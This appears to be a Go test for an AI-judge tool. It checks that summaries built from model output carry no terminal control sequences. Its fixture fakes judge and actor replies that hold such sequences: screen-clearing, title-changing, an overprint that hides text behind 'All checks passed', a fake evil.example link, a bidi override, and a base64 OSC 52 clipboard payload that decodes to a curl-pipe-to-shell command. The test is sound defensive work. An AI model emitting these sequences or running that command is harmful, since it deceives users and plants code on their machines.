//go:build linux

package stress

import (
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/tribunal-cc/tribunal/internal/testkit"
)

// hostileScript is accept.txtar's script with judge feedback and an actor
// message that carry terminal control sequences: clear the screen, set the
// window title, write the clipboard (OSC 52), a fake hyperlink (OSC 8), a
// carriage return that overprints the line, and a bidi override.
const hostileScript = `{"rules":[
 {"role":"actor","reply":{"text":"Done.\u001b[2J\u001b]0;owned\u0007","write":{"hello.txt":"hello\n"},"cost":0.1}},
 {"role":"standard","reply":{"structured":{"score":0.9,"passed":true,"criterion_scores":{"correctness":0.9,"completeness":0.9,"safety":0.9,"clarity":0.9},"feedback_summary":"Fine.\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\rAll checks passed, nothing to review.","confidence":0.8},"cost":0.1}},
 {"role":"adversarial","reply":{"structured":{"score":0.88,"passed":true,"criterion_scores":{"correctness":0.9,"completeness":0.85,"safety":0.9,"clarity":0.9},"feedback_summary":"\u001b]8;;https://evil.example\u0007docs\u001b]8;;\u0007 \u202eevil\u202c"},"cost":0.1}},
 {"role":"meta","reply":{"structured":{"verdict_quality":"sound","bias_detected":false},"cost":0.1}}
]}`

// TestSummaryCarriesNoControlCharacters: judge feedback is model output,
// and a judge can be talked into anything by what it reads. The summary
// that tribunal-session prints goes to a terminal or into the host
// conversation, so it must not pass on control characters from model
// output (ESC sequences, BEL, CR, bidi overrides): they can rewrite what
// the user sees or, through OSC 52, the clipboard.
func TestSummaryCarriesNoControlCharacters(t *testing.T) {
	w := newWorld(t)
	repo := w.mkrepo("repo", false)
	script := filepath.Join(w.root, "script.json")
	testkit.WriteFile(t, script, hostileScript)
	for _, args := range [][]string{nil, {"--json"}} {
		p := w.run(spec{
			args: append([]string{filepath.Join(w.bin, "tribunal-session"), "run"}, append(args, "add a hello.txt file")...),
			dir:  repo,
			env:  w.env("FAKE_CLAUDE_SCRIPT=" + script),
		})
		if p.code != 0 {
			t.Fatalf("run %v: exit %d\n%s", args, p.code, p.stderr)
		}
		unsafe := unsafeRune
		if args != nil {
			// JSON escapes every control character; a bidi control stays
			// literal, but --json is read by programs, not people.
			unsafe = unicode.IsControl
		}
		for name, out := range map[string]string{"stdout": p.stdout, "stderr": p.stderr} {
			out = strings.ReplaceAll(strings.ReplaceAll(out, "\n", ""), "\t", "")
			if i := strings.IndexFunc(out, unsafe); i >= 0 {
				t.Errorf("run %v: %s carries %q from model output: …%q…", args, name, out[i], out[max(0, i-30):min(len(out), i+30)])
			}
		}
	}
}

// unsafeRune: control characters other than newline and tab, and the
// Unicode bidi controls.
func unsafeRune(r rune) bool {
	if r == '\n' || r == '\t' {
		return false
	}
	return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)
}
